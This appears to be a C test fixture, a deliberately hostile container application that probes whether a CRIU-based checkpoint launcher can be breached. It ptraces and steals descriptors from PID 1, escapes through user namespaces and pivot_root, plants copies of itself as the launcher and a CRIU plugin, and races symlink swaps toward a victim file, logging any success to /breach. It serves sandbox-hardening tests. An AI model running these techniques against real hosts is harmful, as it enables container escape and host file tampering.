/* An application that tries what an application of a build must not be able to do. It answers 200 to HTTP on port 8080
 * for as long as it had no success; what it reached it writes to the file /breach.
 *
 *   hostile reach     looks for the launcher and its files, by all ways that there are, and puts its own in their place
 *   hostile swap      a child swaps files with links, and directories with links, in /data and /tmp for ever
 *   hostile daemon    the same, by a process that is nobody's child
 *   hostile leave     no application: leaves such a process behind and ends
 *   hostile idle      no application: waits a moment and ends
 *
 * VICTIM is the path of a file of the machine, to which all links lead.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#define SWAPPED 20

static const char *const names[] = {
	"launcher", "criu", "manifest", "manifest.new", "env", "dump.log", "container", "proc", "state/manifest",
	"state/manifest.new", "state/env", "state/dump.log", "state/seed", "state/checkpoint/files.img.new",
	"state/checkpoint/files.img", "state/checkpoint/inventory.img", "state/checkpoint/inventory.img.new",
	"state/checkpoint/pages-1.img", "state/checkpoint/pages-1.img.new", "state/checkpoint/evil.img",
	"state/checkpoint/stats-dump", "checkpoint/files.img.new", "checkpoint/pages-1.img.new", "checkpoint/evil.img",
	"seed",
};
static const char *victim;

/* In a pod, the launcher may do no more than the application, which may reach it there. */
static bool is_build(void)
{
	char arguments[256] = "";
	int fd = open("/proc/1/cmdline", O_RDONLY | O_CLOEXEC);
	ssize_t length = read(fd, arguments, sizeof arguments - 1);

	close(fd);
	return length > 0 && !strcmp(arguments + strlen(arguments) + 1, "build");
}

static void tell(const char *format, const char *what)
{
	int fd;

	if (!is_build())
		return;
	fd = open("/breach", O_WRONLY | O_CREAT | O_APPEND, 0644);

	if (fd < 0)
		fd = open("/tmp/breach", O_WRONLY | O_CREAT | O_APPEND, 0644);
	dprintf(fd, format, what);
	dprintf(fd, "\n");
	close(fd);
}

static bool is_mine(pid_t pid)
{
	/* Everything that the application starts has this as its name. */
	char path[64], name[32] = "";
	int fd;

	snprintf(path, sizeof path, "/proc/%d/comm", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0 || read(fd, name, sizeof name - 1) < 0)
		return true;
	close(fd);
	return !strncmp(name, "hostile", 7);
}

/* /proc/1/fd leads to the application's own standard streams, as it would without the launcher. */
static bool is_own_stream(int fd, const char *way)
{
	struct stat found, own;

	return !strncmp(way, "fd/", 3) && !fstat(fd, &found) && !fstat(atoi(way + 3), &own) &&
	       found.st_dev == own.st_dev && found.st_ino == own.st_ino;
}

/* What leads from one process to what another one has. */
static void reach_process(pid_t pid)
{
	static const char *const ways[] = {"root/", "cwd/", "exe", "fd/0", "fd/3", "fd/4", "fd/5", "fd/6", "fd/200",
					   "ns/mnt", "ns/user", "mem", "environ", "auxv"};
	char path[128];

	if (is_mine(pid))
		return;
	for (size_t i = 0; i < sizeof ways / sizeof *ways; i++) {
		snprintf(path, sizeof path, "/proc/%d/%s", pid, ways[i]);
		int fd = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
		if (fd >= 0 && !is_mine(pid) && !is_own_stream(fd, ways[i]))
			tell("opened %s", path);
		close(fd);
	}
}

/* CRIU does not dump who holds a process of another's tree, or traces it; so this is not done for ever. */
static void reach_first_process(void)
{
	int handle = syscall(SYS_pidfd_open, 1, 0);

	if (!ptrace(PTRACE_SEIZE, 1, NULL, NULL))
		tell("traced %s", "the first process");
	for (int number = 0; handle >= 0 && number < 8; number++) {
		int fd = syscall(SYS_pidfd_getfd, handle, number, 0);
		if (fd >= 0)
			tell("took a descriptor of %s", "the first process");
		close(fd);
	}
	close(handle);
}

static void reach_processes(void)
{
	DIR *proc = opendir("/proc");
	struct dirent *entry;

	while (proc && (entry = readdir(proc)))
		if (atoi(entry->d_name) > 0)
			reach_process(atoi(entry->d_name));
	if (proc)
		closedir(proc);
}

static void reach_files(void)
{
	char path[256];

	for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
		snprintf(path, sizeof path, "/.warmstart/%s", names[i]);
		if (!access(path, F_OK))
			tell("%s is there", path);
	}
}

static void copy_self(const char *to)
{
	char bytes[65536];
	ssize_t count;
	int from = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
	int fd = open(to, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);

	while ((count = read(from, bytes, sizeof bytes)) > 0)
		if (write(fd, bytes, count) != count)
			break;
	close(from);
	close(fd);
}

/* What would be found by a path of the container's. Only root can, and it must lead nowhere. */
static void put_own(void)
{
	char path[256];

	rename("/.warmstart", "/.before");
	mkdir("/.warmstart", 0755);
	mkdir("/.warmstart/checkpoint", 0777);
	mkdir("/.warmstart/state", 0777);
	mkdir("/.warmstart/state/checkpoint", 0777);
	copy_self("/.warmstart/launcher");
	copy_self("/.warmstart/criu");
	copy_self("/launcher");
	copy_self("/criu");
	for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
		snprintf(path, sizeof path, "/.warmstart/%s", names[i]);
		if (symlink(victim, path) && errno != EEXIST && errno != EACCES && errno != ENOENT && errno != EROFS)
			perror(path);
	}
	/* What CRIU would load, if it looked for plugins where the application is. */
	mkdir("/usr", 0755);
	mkdir("/usr/lib", 0755);
	mkdir("/usr/lib/criu", 0755);
	copy_self("/usr/lib/criu/plugin.so");
}

static void write_map(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);

	if (fd < 0 || write(fd, text, strlen(text)) < 0)
		perror(path);
	close(fd);
}

/* In a user namespace of its own it has all capabilities, over what is its own. What is mounted on a directory cannot
 * be taken away there; but the directory can be renamed through a root directory that has been left. */
static void reach_from_user_namespace(void)
{
	char map[32];
	unsigned user = geteuid();
	int old, status;
	pid_t child = fork();

	if (child) {
		waitpid(child, &status, 0);
		return;
	}
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS))
		_exit(0);
	snprintf(map, sizeof map, "%u %u 1", user, user);
	write_map("/proc/self/uid_map", map);
	mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
	reach_processes();
	reach_first_process();
	reach_files();
	old = open("/", O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (!umount2("/.warmstart", MNT_DETACH) || !mount("/", "/data", NULL, MS_BIND, NULL))
		reach_files();
	if (!mount("own", "/data", "tmpfs", 0, NULL) && !chdir("/data") && !syscall(SYS_pivot_root, ".", ".") &&
	    !umount2(".", MNT_DETACH)) {
		renameat(old, ".warmstart", old, ".moved");
		renameat(old, "launcher", old, ".launcher");
		if (!fchdir(old) && !access(".moved", F_OK))
			renameat(old, ".moved", old, ".warmstart");
	}
	_exit(0);
}

static void watch(void)
{
	for (;;)
		reach_processes();
}

static void swap(void)
{
	char a[64], b[64];

	for (;;)
		for (int i = 0; i < SWAPPED; i++)
			for (const char *place = "/data"; place; place = *place == '/' && place[1] == 'd' ? "/tmp" : NULL)
				for (const char *kind = "fds"; *kind; kind++) {
					snprintf(a, sizeof a, "%s/%c%d", place, *kind, i);
					snprintf(b, sizeof b, "%s/l%c%d", place, *kind, i);
					syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2);
				}
}

static void make_swapped(const char *place)
{
	struct sockaddr_un address = {.sun_family = AF_UNIX};
	char path[100], above[100];

	for (int i = 0; i < SWAPPED; i++) {
		snprintf(path, sizeof path, "%s/f%d", place, i);
		int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
		if (write(fd, "0123456789012345678901234567890123456789", 40) != 40)
			perror(path);
		close(fd);
		snprintf(path, sizeof path, "%s/lf%d", place, i);
		symlink(victim, path);
		/* A directory that has a file of the victim's name, and a link to the victim's directory. */
		snprintf(path, sizeof path, "%s/d%d", place, i);
		mkdir(path, 0755);
		snprintf(path, sizeof path, "%s/d%d/%s", place, i, strrchr(victim, '/') + 1);
		close(open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644));
		snprintf(above, sizeof above, "%.*s", (int)(strrchr(victim, '/') - victim), victim);
		snprintf(path, sizeof path, "%s/ld%d", place, i);
		symlink(above, path);
		/* A FIFO and a link, and a socket beside it. */
		snprintf(path, sizeof path, "%s/s%d", place, i);
		mkfifo(path, 0644);
		snprintf(path, sizeof path, "%s/ls%d", place, i);
		symlink(victim, path);
	}
	snprintf(path, sizeof path, "%s/f0", place);
	snprintf(above, sizeof above, "%s/hard", place);
	link(path, above);
	snprintf(address.sun_path, sizeof address.sun_path, "%s/socket", place);
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);
	if (bind(fd, (struct sockaddr *)&address, sizeof address))
		perror(address.sun_path);
	close(fd);
}

static void start(void (*run)(void), bool leave)
{
	pid_t child = fork();

	if (child) {
		if (leave)
			waitpid(child, NULL, 0);
		return;
	}
	if (leave && fork())
		_exit(0);
	if (leave) {
		setsid();
		for (int fd = 0; fd < 3; fd++)
			close(fd);
	}
	run();
}

static void serve(void)
{
	struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(8080)};
	int listener = socket(AF_INET, SOCK_STREAM, 0), one = 1;

	setsockopt(listener, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
	if (bind(listener, (struct sockaddr *)&address, sizeof address) || listen(listener, 16))
		perror("listen");
	for (;;) {
		int client = accept(listener, NULL, NULL);
		char request[4096];
		bool failed = !access("/breach", F_OK) || !access("/tmp/breach", F_OK);

		if (client < 0 || read(client, request, sizeof request) < 0)
			continue;
		dprintf(client, "HTTP/1.0 %s\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
			failed ? "503 Breach" : "200 OK");
		shutdown(client, SHUT_WR);
		while (read(client, request, sizeof request) > 0)
			;
		close(client);
	}
}

int main(int count, char **arguments)
{
	const char *self = strrchr(*arguments, '/'), *mode = count > 1 ? arguments[1] : "";

	victim = getenv("VICTIM") ? getenv("VICTIM") : "/nowhere/nothing";
	if (self && strcmp(self, "/hostile")) {
		tell("run as %s", self);
		return 70;
	}
	if (!strcmp(mode, "idle"))
		return usleep(300000);
	if (!strcmp(mode, "leave")) {
		start(swap, true);
		return 0;
	}
	if (!strcmp(mode, "reach")) {
		/* Where it is root's, and read-only as CRI-O makes it, its owner needs no capability for that. */
		chmod("/", 0755);
		reach_files();
		reach_processes();
		reach_first_process();
		reach_from_user_namespace();
		put_own();
		start(watch, false);
	} else if (*mode) {
		make_swapped("/data");
		make_swapped("/tmp");
		start(swap, !strcmp(mode, "daemon"));
	}
	serve();
}
